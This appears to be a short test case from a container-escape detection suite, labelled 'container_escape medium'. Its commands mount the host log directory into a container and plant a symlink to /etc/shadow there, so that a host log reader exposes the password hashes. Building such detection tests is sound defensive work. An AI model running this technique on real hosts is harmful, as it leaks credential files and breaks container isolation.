# about: a link to a secret of the host is left in its log directory, for the reader of logs to follow
# expect: container_escape medium
# where: container
# needs: docker
mkdir -p /var/log/pods
container -v /var/log:/logs -- ln -s /etc/shadow /logs/pods/0.log
test "$(readlink /var/log/pods/0.log)" = /etc/shadow
